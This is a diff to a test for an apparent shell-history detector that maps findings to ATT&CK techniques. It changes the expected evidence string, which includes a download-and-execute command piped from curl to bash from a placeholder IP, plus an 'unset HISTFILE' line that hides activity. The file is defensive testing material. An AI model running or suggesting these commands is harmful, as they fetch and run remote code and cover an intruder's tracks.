@@ -129,7 +129,7 @@ def test_shell_history(plain: TreeMaker) -> None:
     ]
     typed, linked = plain.findings(ShellHistory())
     assert (linked.path, linked.severity, linked.attack) == ("/home/b/.bash_history", Severity.HIGH, ("T1070.003",))
-    assert typed.evidence == "line 3: curl http://198.51.100.23/x | bash\nline 4: unset HISTFILE"
+    assert typed.evidence == "  line 1: ls\n> line 3: curl http://198.51.100.23/x | bash\n> line 4: unset HISTFILE"
     assert {"T1059.004", "T1105", "T1070.003"} <= set(typed.attack)
 
 
